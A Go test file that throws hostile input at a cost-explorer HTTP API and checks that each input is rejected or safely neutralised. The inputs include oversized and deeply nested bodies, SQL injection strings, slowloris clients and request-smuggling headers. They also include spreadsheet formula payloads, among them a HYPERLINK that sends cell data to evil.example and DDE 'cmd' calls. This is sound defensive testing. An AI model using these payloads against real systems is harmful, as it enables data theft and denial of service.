package httpapi_test

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/costexplorer/costexplorer"
	"github.com/costexplorer/costexplorer/internal/importer"
	"github.com/costexplorer/costexplorer/internal/server"
	"github.com/costexplorer/costexplorer/internal/sqlite"
)

// The hostile-input catalogue. Each case is sent to a real server (real
// store, engine, runner, authenticator, net/http on 127.0.0.1) and must get a
// clear 4xx (or a success where the input is merely unusual), never a 5xx,
// a panic, a hang or unbounded memory.

// filler is a reader of n bytes of 'a' that allocates nothing, so that the
// memory a test measures is the server's.
type filler struct{ n int64 }

func (f *filler) Read(p []byte) (int, error) {
	if f.n <= 0 {
		return 0, io.EOF
	}
	k := min(int64(len(p)), f.n)
	for i := range p[:k] {
		p[i] = 'a'
	}
	f.n -= k
	return int(k), nil
}

// TestHostileLargeBodies sends 64 MiB bodies, with and without a
// Content-Length: both are 413 REQUEST_ENTITY_TOO_LARGE, and the process
// allocates a small fraction of the body while answering (the server reads
// at most its 1 MiB limit).
func TestHostileLargeBodies(t *testing.T) {
	e := newEnv(t, options{noRunner: true})
	const size = 64 << 20
	for _, tc := range []struct {
		name          string
		contentLength int64
	}{
		{"ErrTooLargeChunked", -1},
		{"ErrTooLargeDeclared", size},
	} {
		t.Run(tc.name, func(t *testing.T) {
			req := e.apiRequest("POST", usagePath(e.Org), "")
			req.Body = io.NopCloser(&filler{n: size})
			req.ContentLength = tc.contentLength
			req.Header.Set("Content-Type", "application/vnd.atlas.2023-01-01+json")
			var before, after runtime.MemStats
			runtime.GC()
			runtime.ReadMemStats(&before)
			res, err := http.DefaultClient.Do(req)
			runtime.ReadMemStats(&after)
			if err != nil {
				t.Fatalf("64 MiB body: %v", err)
			}
			b, _ := io.ReadAll(res.Body)
			res.Body.Close()
			if res.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(string(b), costexplorer.ErrBodyTooLarge) {
				t.Fatalf("64 MiB body: %d %s", res.StatusCode, b)
			}
			if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 16<<20 {
				t.Errorf("answering a 64 MiB body allocated %d MiB", alloc>>20)
			}
		})
	}
}

// TestHostileBodies is the catalogue of hostile request bodies.
func TestHostileBodies(t *testing.T) {
	e := newEnv(t, options{rateLimit: httpapiRateLimit(1000)})
	ids := func(n int) string {
		s := make([]string, n)
		for i := range s {
			s[i] = fmt.Sprintf(`"%024x"`, i)
		}
		return "[" + strings.Join(s, ",") + "]"
	}
	window := `"startDate":"2025-01-01","endDate":"2025-03-01"`
	cases := []struct {
		name   string
		body   string
		status int
		code   string
	}{
		{"ErrNestedTopLevel", strings.Repeat("[", 500_000) + strings.Repeat("]", 500_000), 400, costexplorer.ErrMalformedJSON},
		{"ErrNestedInField", `{` + window + `,"projects":` + strings.Repeat(`{"a":`, 100_000) + `1` + strings.Repeat("}", 100_000) + `}`, 400, costexplorer.ErrMalformedJSON},
		{"ErrNestedKeys", strings.Repeat(`{"startDate":`, 60_000) + `1` + strings.Repeat("}", 60_000), 400, costexplorer.ErrMalformedJSON},
		{"OKThousandIDsPerFilter", `{` + window + `,"projects":` + ids(1000) + `,"clusters":` + ids(1000) + `,"organizations":` + ids(1000) + `,"groupBy":"clusters"}`, 202, ""},
		{"ErrFiveThousandIDs", `{` + window + `,"clusters":` + ids(5000) + `}`, 400, costexplorer.ErrValidation},
		{"ErrThirtyThousandIDs", `{` + window + `,"projects":` + ids(30000) + `}`, 400, costexplorer.ErrValidation},
		{"ErrHugeString", `{` + window + `,"groupBy":"` + strings.Repeat("x", 900_000) + `"}`, 400, costexplorer.ErrInvalidEnumValue},
		{"ErrHugeNumber", `{` + window + `,"includePartialMatches":1` + strings.Repeat("0", 900_000) + `}`, 400, costexplorer.ErrInvalidJSONAttribute},
		{"ErrManyKeys", `{` + window + strings.Repeat(`,"startDate":"2025-01-01"`, 30_000) + `,"x":1}`, 400, costexplorer.ErrInvalidAttribute},
		{"ErrEscapedNUL", `{"startDate":"2025-01-01\u0000","endDate":"2025-03-01"}`, 400, costexplorer.ErrInvalidDateFormat},
		{"ErrRawNUL", "{\"startDate\":\"2025-01-01\x00\",\"endDate\":\"2025-03-01\"}", 400, costexplorer.ErrMalformedJSON},
		{"ErrBOM", "\ufeff{" + window + "}", 400, costexplorer.ErrMalformedJSON},
		{"ErrUTF16", "\xff\xfe{\x00}\x00", 400, costexplorer.ErrMalformedJSON},
	}
	// Invalid UTF-8 and SQL metacharacters in every string field: refused
	// by validation, never a 5xx.
	fields := map[string]string{
		"startDate":     `{"startDate":%s,"endDate":"2025-03-01"}`,
		"endDate":       `{"startDate":"2025-01-01","endDate":%s}`,
		"organizations": `{` + window + `,"organizations":[%s]}`,
		"projects":      `{` + window + `,"projects":[%s]}`,
		"clusters":      `{` + window + `,"clusters":[%s]}`,
		"services":      `{` + window + `,"services":[%s]}`,
		"groupBy":       `{` + window + `,"groupBy":%s}`,
		"key":           `{` + window + `,%s:1}`,
	}
	codes := map[string]string{
		"startDate": costexplorer.ErrInvalidDateFormat, "endDate": costexplorer.ErrInvalidDateFormat,
		"organizations": costexplorer.ErrValidation, "projects": costexplorer.ErrValidation, "clusters": costexplorer.ErrValidation,
		"services": costexplorer.ErrInvalidEnumValue, "groupBy": costexplorer.ErrInvalidEnumValue, "key": costexplorer.ErrInvalidAttribute,
	}
	values := map[string]string{
		"InvalidUTF8":       "\"\xff\xfe\xc0\xaf\"",
		"InvalidUTF8InHex":  "\"aaaaaaaaaaaa\xffaaaaaaaaaa\"",
		"SQLQuote":          `"' OR '1'='1"`,
		"SQLComment":        `"aaaaaaaaaaaaaaaaaaaaaaaa'; DROP TABLE line_items; --"`,
		"SQLUnion":          `"x\" UNION SELECT secret_hash FROM service_accounts --"`,
		"SQLWildcards":      `"%_%"`,
		"EscapedQuote":      `"\u0027\u003b--"`,
		"LoneSurrogate":     `"\ud800"`,
		"OverlongSeparator": "\"\xe2\x80\xa8\"",
	}
	for field, tmpl := range fields {
		for name, v := range values {
			cases = append(cases, struct {
				name   string
				body   string
				status int
				code   string
			}{"Err" + name + "In_" + field, fmt.Sprintf(tmpl, v), 400, codes[field]})
		}
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			res := e.do(e.apiRequest("POST", usagePath(e.Org), tc.body))
			if res.status != tc.status {
				t.Fatalf("%d, want %d: %.300s", res.status, tc.status, res.body)
			}
			if tc.code != "" {
				if b := res.apiErr(t); b.ErrorCode != tc.code {
					t.Fatalf("errorCode %s, want %s: %.300s", b.ErrorCode, tc.code, res.body)
				}
			}
			if !json.Valid(res.body) {
				t.Fatalf("answer is not valid JSON: %q", res.body)
			}
		})
	}
	// The thousand-id query runs to completion.
	tok := e.create(e.Org, `{`+window+`,"projects":`+ids(1000)+`,"clusters":`+ids(1000)+`,"groupBy":"clusters"}`)
	e.waitReady(e.Org, tok)
}

// shortTimeouts shortens the server's timeouts (the limits of
// `costexplorer serve` otherwise), so that the slow-client cases run in a
// second.
func shortTimeouts(c *server.Config) {
	c.ReadHeaderTimeout, c.ReadTimeout = 500*time.Millisecond, time.Second
	c.WriteTimeout, c.IdleTimeout = 5*time.Second, 5*time.Second
}

// TestHostileURLsAndHeaders sends very long URLs and headers, and invalid
// UTF-8 in the path, the query string and the headers.
func TestHostileURLsAndHeaders(t *testing.T) {
	e := newEnv(t, options{noRunner: true, config: shortTimeouts})
	base := e.URL
	long := func(n int) string { return strings.Repeat("a", n) }
	cases := []struct {
		name   string
		path   string
		header map[string]string
		status int
		code   string // errorCode of an Atlas answer ("" for net/http's own)
	}{
		{"ErrURLOverHeaderLimit", "/api/atlas/v2/orgs/" + long(100_000), nil, 431, ""},
		{"ErrLongOrgID", "/api/atlas/v2/orgs/" + long(30_000), nil, 400, costexplorer.ErrInvalidPathParameter},
		{"ErrLongToken", usagePath(e.Org) + "/" + long(30_000), nil, 400, costexplorer.ErrInvalidPathParameter},
		{"ErrLongQueryName", "/api/atlas/v2/orgs?name=" + long(30_000), nil, 400, costexplorer.ErrInvalidQueryParameter},
		{"ErrLongUnknownPath", "/api/" + long(30_000), nil, 404, costexplorer.ErrNotFound},
		{"ErrManyQueryParameters", "/api/atlas/v2/orgs?" + strings.Repeat("pretty=true&", 3000), nil, 400, costexplorer.ErrInvalidQueryParameter},
		{"ErrHeaderOverLimit", "/api/atlas/v2/orgs", map[string]string{"X-Junk": long(100_000)}, 431, ""},
		{"ErrAcceptOverLimit", "/api/atlas/v2/orgs", map[string]string{"Accept": long(70_000)}, 431, ""},
		{"ErrLongAccept", "/api/atlas/v2/orgs", map[string]string{"Accept": strings.Repeat("application/vnd.atlas.1999-01-01+json, ", 1000)}, 406, costexplorer.ErrInvalidVersionDate},
		{"ErrLongAuthorization", "/api/atlas/v2/orgs", map[string]string{"Authorization": "Bearer " + long(50_000)}, 401, costexplorer.ErrUnauthorized},
		{"ErrLongDigest", "/api/atlas/v2/orgs", map[string]string{"Authorization": `Digest username="` + long(50_000) + `"`}, 401, costexplorer.ErrUnauthorized},
		{"ErrInvalidUTF8OrgID", "/api/atlas/v2/orgs/%ff%fe%fd", nil, 400, costexplorer.ErrInvalidPathParameter},
		{"ErrInvalidUTF8Token", usagePath(e.Org) + "/%c0%af", nil, 400, costexplorer.ErrInvalidPathParameter},
		{"OKInvalidUTF8Name", "/api/atlas/v2/orgs?name=%ff%fe", nil, 200, ""},
		{"ErrInvalidUTF8Pretty", "/api/atlas/v2/orgs?pretty=%ff", nil, 400, costexplorer.ErrInvalidQueryParameter},
		{"ErrInvalidUTF8PageNum", "/api/atlas/v2/orgs?pageNum=%ff", nil, 400, costexplorer.ErrInvalidQueryParameter},
		{"ErrInvalidUTF8Accept", "/api/atlas/v2/orgs", map[string]string{"Accept": "application/vnd.atlas.\xff\xfe+json"}, 406, costexplorer.ErrInvalidVersionDate},
		{"ErrInvalidUTF8Bearer", "/api/atlas/v2/orgs", map[string]string{"Authorization": "Bearer \xff\xfe.\xc0\xaf.x"}, 401, costexplorer.ErrUnauthorized},
		{"ErrInvalidUTF8Digest", "/api/atlas/v2/orgs", map[string]string{"Authorization": "Digest username=\"\xff\xfe\", realm=\"\xc0\", nonce=\"\xff\", uri=\"/\", response=\"\xff\""}, 401, costexplorer.ErrUnauthorized},
		{"ErrSQLInOrgID", "/api/atlas/v2/orgs/" + url.PathEscape("' OR '1'='1"), nil, 400, costexplorer.ErrInvalidPathParameter},
		{"ErrSQLInToken", usagePath(e.Org) + "/" + url.PathEscape("x'; DELETE FROM processes; --"), nil, 400, costexplorer.ErrInvalidPathParameter},
		{"ErrSQLInPageNum", "/api/atlas/v2/orgs?pageNum=" + url.QueryEscape("1; DROP TABLE organizations"), nil, 400, costexplorer.ErrInvalidQueryParameter},
		{"ErrSQLInDigestUser", "/api/atlas/v2/orgs", map[string]string{"Authorization": `Digest username="' OR 1=1 --", realm="MMS Public API", nonce="x", uri="/api/atlas/v2/orgs", response="00"`}, 401, costexplorer.ErrUnauthorized},
	}
	c := &http.Client{Timeout: 10 * time.Second}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			req, err := http.NewRequest("GET", base+tc.path, nil)
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("Accept", "application/vnd.atlas.2023-01-01+json")
			req.Header.Set("Authorization", "Bearer "+e.bearer)
			for k, v := range tc.header {
				req.Header.Set(k, v)
			}
			res, err := c.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(res.Body)
			res.Body.Close()
			if res.StatusCode != tc.status {
				t.Fatalf("%d, want %d: %.300s", res.StatusCode, tc.status, b)
			}
			if tc.code != "" {
				var a apiErrorBody
				if err := json.Unmarshal(b, &a); err != nil || a.ErrorCode != tc.code {
					t.Fatalf("errorCode %q, want %s: %.300s", a.ErrorCode, tc.code, b)
				}
				// Atlas errors name the offending value, so a long value
				// comes back, but never amplified.
				in := len(tc.path)
				for _, v := range tc.header {
					in += len(v)
				}
				if len(b) > in+2<<10 {
					t.Errorf("a %d-byte request got a %d-byte error", in, len(b))
				}
			}
		})
	}
}

// TestHostileSlowClients: a client that trickles its header lines
// (slowloris) is cut off by ReadHeaderTimeout, one that trickles its body by
// ReadTimeout; neither holds the connection, and neither gets a 5xx.
func TestHostileSlowClients(t *testing.T) {
	e := newEnv(t, options{noRunner: true, config: shortTimeouts})
	base := e.URL
	addr := strings.TrimPrefix(base, "http://")

	// trickle writes the lines one byte every 50 ms until the server closes
	// the connection or 10 s pass, then returns what the server sent and
	// how long the connection lived.
	trickle := func(t *testing.T, head string, body string) (string, time.Duration) {
		t.Helper()
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		start := time.Now()
		got := make(chan string, 1)
		go func() {
			b, _ := io.ReadAll(conn)
			got <- string(b)
		}()
		if _, err := io.WriteString(conn, head); err != nil {
			t.Fatal(err)
		}
		for i := 0; i < len(body) && time.Since(start) < 10*time.Second; i++ {
			if _, err := conn.Write([]byte{body[i]}); err != nil {
				break // the server closed the connection
			}
			select {
			case s := <-got:
				return s, time.Since(start)
			case <-time.After(50 * time.Millisecond):
			}
		}
		select {
		case s := <-got:
			return s, time.Since(start)
		case <-time.After(10 * time.Second):
			t.Fatal("the server kept the slow connection open")
		}
		return "", 0
	}
	t.Run("ErrSlowHeaders", func(t *testing.T) {
		headers := "Host: x\r\nAccept: application/vnd.atlas.2023-01-01+json\r\n" + strings.Repeat("X-Slow: 1\r\n", 100) + "\r\n"
		out, lived := trickle(t, "GET /api/atlas/v2/orgs HTTP/1.1\r\n", headers)
		if strings.HasPrefix(out, "HTTP/1.1 2") || strings.HasPrefix(out, "HTTP/1.1 5") {
			t.Fatalf("slow headers answered %q", out)
		}
		t.Logf("slow-header connection cut after %s (ReadHeaderTimeout 500 ms), answer %q", lived.Round(10*time.Millisecond), firstLine(out))
	})
	t.Run("ErrSlowBody", func(t *testing.T) {
		body := `{"startDate":"2025-01-01","endDate":"2025-03-01"}` + strings.Repeat(" ", 200)
		head := "POST " + usagePath(e.Org) + " HTTP/1.1\r\nHost: x\r\nAccept: application/vnd.atlas.2023-01-01+json\r\n" +
			"Content-Type: application/json\r\nAuthorization: Bearer " + e.bearer + "\r\n" +
			fmt.Sprintf("Content-Length: %d\r\n\r\n", len(body))
		out, lived := trickle(t, head, body)
		if strings.HasPrefix(out, "HTTP/1.1 2") || strings.HasPrefix(out, "HTTP/1.1 5") {
			t.Fatalf("slow body answered %q", out)
		}
		t.Logf("slow-body connection cut after %s (ReadTimeout 1 s), answer %q", lived.Round(10*time.Millisecond), firstLine(out))
	})
	t.Run("OKServerStillServes", func(t *testing.T) {
		req, _ := http.NewRequest("GET", base+"/healthz", nil)
		res, err := http.DefaultClient.Do(req)
		if err != nil || res.StatusCode != 200 {
			t.Fatalf("after the slow clients: %v %v", res, err)
		}
		res.Body.Close()
	})
}

func firstLine(s string) string {
	l, _, _ := strings.Cut(s, "\r\n")
	return l
}

// hostileNames are organization, project and cluster names an attacker
// could give (through an imported invoice): spreadsheet formulas and SQL.
var hostileNames = struct{ org, otherOrg string }{
	org:      `=HYPERLINK("http://evil.example/?d="&A1,"Click")`,
	otherOrg: `Robert'); DROP TABLE organizations; --`,
}

var hostileProjects = []string{"+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A1", "@SUM(1,1)", `' OR '1'='1`, `"; DELETE FROM line_items; --`}
var hostileClusters = []string{"=1+1", "+1", "-1", "@A1", `%_\' --`}

// hostileStore writes a SQLite store holding two organizations with hostile
// names, imported from an invoice CSV through the real importer, and returns
// its path and the two organization ids.
func hostileStore(t *testing.T) (path, org, other string) {
	t.Helper()
	ctx := context.Background()
	path = filepath.Join(t.TempDir(), "hostile.db")
	db, err := sqlite.Open(ctx, path, sqlite.Options{Now: func() time.Time { return t0 }})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	org, other = "5f00000000000000000000e1", "5f00000000000000000000e2"
	var sb strings.Builder
	w := csv.NewWriter(&sb)
	_ = w.Write([]string{"Date", "Usage Date", "Description", "Organization Name", "Organization ID", "Project", "Project ID", "SKU", "Cluster", "Amount"})
	for i, p := range hostileProjects {
		_ = w.Write([]string{"05/01/2025", "05/01/2025", "Atlas AWS Cluster M10", hostileNames.org, org, p,
			fmt.Sprintf("64a1b2c3d4e5f607182930%02d", i), "ATLAS_AWS_INSTANCE_M10", hostileClusters[i], fmt.Sprintf("$%d.25", i+1)})
	}
	_ = w.Write([]string{"05/02/2025", "05/02/2025", "Atlas AWS Cluster M10", hostileNames.otherOrg, other, hostileProjects[3],
		"64a1b2c3d4e5f607182930ff", "ATLAS_AWS_INSTANCE_M10", hostileClusters[4], "$7.00"})
	w.Flush()
	if _, err := importer.Import(ctx, db, "hostile.csv", strings.NewReader(sb.String())); err != nil {
		t.Fatalf("import the hostile invoice: %v", err)
	}
	return path, org, other
}

// TestHostileNamesEndToEnd imports an invoice whose organization, project and
// cluster names are spreadsheet formulas and SQL, then queries it through the
// API. The names are stored and returned verbatim in JSON (never executed:
// the store still verifies and still holds both organizations); in CSV every
// name that starts with =, +, - or @ is prefixed with a single quote.
func TestHostileNamesEndToEnd(t *testing.T) {
	path, org, other := hostileStore(t)
	e := newEnv(t, options{path: path, noDemo: true})
	id, secret := e.ServiceAccount(e.t, org, nil, costexplorer.RoleOrgBillingReadOnly)
	e.bearer = e.accessToken(id, secret)

	tok := e.create(org, `{"startDate":"2025-05-01","endDate":"2025-06-01"}`)
	res := e.waitReady(org, tok)
	var env struct {
		Content costexplorer.Result
	}
	res.json(t, &env)
	rows := env.Content.UsageDetails
	if len(rows) != len(hostileProjects) {
		t.Fatalf("%d rows, want %d: %s", len(rows), len(hostileProjects), res.body)
	}
	projects := map[string]bool{}
	clusters := map[string]bool{}
	for _, r := range rows {
		if r.OrganizationName != hostileNames.org {
			t.Errorf("organization name %q, want it verbatim %q", r.OrganizationName, hostileNames.org)
		}
		projects[r.ProjectName], clusters[r.ClusterName] = true, true
	}
	for i, p := range hostileProjects {
		if !projects[p] || !clusters[hostileClusters[i]] {
			t.Errorf("project %q / cluster %q not returned verbatim: %v %v", p, hostileClusters[i], projects, clusters)
		}
	}

	req := e.apiRequest("GET", usagePath(org)+"/"+tok, "")
	req.Header.Set("Accept", "application/vnd.atlas.2023-01-01+csv")
	res = e.do(req)
	if res.status != http.StatusOK {
		t.Fatalf("CSV: %d %s", res.status, res.body)
	}
	recs, err := csv.NewReader(strings.NewReader(string(res.body))).ReadAll()
	if err != nil || len(recs) != len(hostileProjects)+1 {
		t.Fatalf("CSV (%v): %s", err, res.body)
	}
	// Each name is in the CSV as the spreadsheet-safe form of the name:
	// a leading quote before a formula character, nothing else changed.
	safe := map[string]bool{}
	for _, n := range append(append([]string{hostileNames.org}, hostileProjects...), hostileClusters...) {
		if strings.ContainsRune("=+-@", rune(n[0])) {
			safe["'"+n] = true
		} else {
			safe[n] = true
		}
	}
	for _, rec := range recs[1:] {
		for _, col := range []int{2, 4, 6} { // organization, project, cluster names
			v := rec[col]
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
				t.Errorf("CSV column %s is a live formula: %q", recs[0][col], v)
			}
			if !safe[v] {
				t.Errorf("CSV column %s = %q is not the safe form of an imported name", recs[0][col], v)
			}
		}
	}

	// The organization listing matches names as text: SQL in the name
	// prefix finds nothing, an exact prefix of the hostile name finds it.
	for _, tc := range []struct {
		name string
		want int
	}{
		{`=HYPERLINK("http://evil`, 1}, {"=hyperlink(", 1}, {"' OR '1'='1", 0}, {"%", 0}, {"_", 0}, {`\`, 0}, {"=HYPERLINK(%", 0},
	} {
		res := e.do(e.apiRequest("GET", "/api/atlas/v2/orgs?name="+url.QueryEscape(tc.name), ""))
		var list struct {
			Results []struct{ Name string }
		}
		res.json(t, &list)
		if len(list.Results) != tc.want || tc.want == 1 && list.Results[0].Name != hostileNames.org {
			t.Errorf("name=%q: %s", tc.name, res.body)
		}
	}

	// Nothing was executed: the other organization is intact and its
	// credential sees its own hostile name verbatim.
	id, secret = e.ServiceAccount(e.t, other, nil, costexplorer.RoleOrgOwner)
	e.bearer = e.accessToken(id, secret)
	res = e.do(e.apiRequest("GET", "/api/atlas/v2/orgs/"+other, ""))
	var o struct{ Name string }
	res.json(t, &o)
	if o.Name != hostileNames.otherOrg {
		t.Errorf("organization name %q, want %q", o.Name, hostileNames.otherOrg)
	}
	diffs, err := e.DB.Verify(context.Background())
	if err != nil || len(diffs) > 0 {
		t.Fatalf("verify after the hostile names: %v %v", diffs, err)
	}
	if st, err := e.DB.UsageStats(context.Background()); err != nil || st.LineItems != int64(len(hostileProjects)+1) {
		t.Fatalf("line items after the hostile names: %+v %v", st, err)
	}
}

// TestHostileRawRequests sends byte sequences that are not valid HTTP: the
// server answers 400 from net/http or closes the connection, and keeps
// serving.
func TestHostileRawRequests(t *testing.T) {
	e := newEnv(t, options{noRunner: true, config: shortTimeouts})
	addr := strings.TrimPrefix(e.URL, "http://")
	for name, raw := range map[string]string{
		"ErrNULInRequestLine":      "GET /api/atlas/v2\x00/orgs HTTP/1.1\r\nHost: x\r\n\r\n",
		"ErrBinaryGarbage":         "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
		"ErrHeaderWithoutColon":    "GET /api/atlas/v2/orgs HTTP/1.1\r\nHost: x\r\nNoColonHere\r\n\r\n",
		"ErrConflictingLengths":    "POST /api/oauth/token HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef",
		"ErrChunkedAndLength":      "POST /api/oauth/token HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
		"ErrNegativeLength":        "POST /api/oauth/token HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
		"ErrHugeChunkSize":         "POST /api/oauth/token HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nffffffffffffffffff\r\n",
		"ErrInvalidUTF8InRequest":  "GET /api/atlas/v2/orgs/\xff\xfe HTTP/1.1\r\nHost: x\r\n\r\n",
		"ErrRequestSmugglingSpace": "GET /api/atlas/v2/orgs HTTP/1.1\r\nHost: x\r\nTransfer-Encoding : chunked\r\n\r\n",
	} {
		t.Run(name, func(t *testing.T) {
			conn, err := net.Dial("tcp", addr)
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close()
			_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
			if _, err := io.WriteString(conn, raw); err != nil {
				t.Fatal(err)
			}
			line, err := bufio.NewReader(conn).ReadString('\n')
			if err != nil && !errors.Is(err, io.EOF) && !isReset(err) {
				t.Fatalf("no answer and no close: %v", err)
			}
			if strings.HasPrefix(line, "HTTP/1.1 5") {
				t.Fatalf("answered %q", line)
			}
			t.Logf("answer %q", strings.TrimSpace(line))
		})
	}
	res := e.do(e.newRequest("GET", "/healthz", nil))
	if res.status != 200 {
		t.Fatalf("healthz after the raw requests: %d", res.status)
	}
}

func isReset(err error) bool {
	return strings.Contains(err.Error(), "connection reset")
}
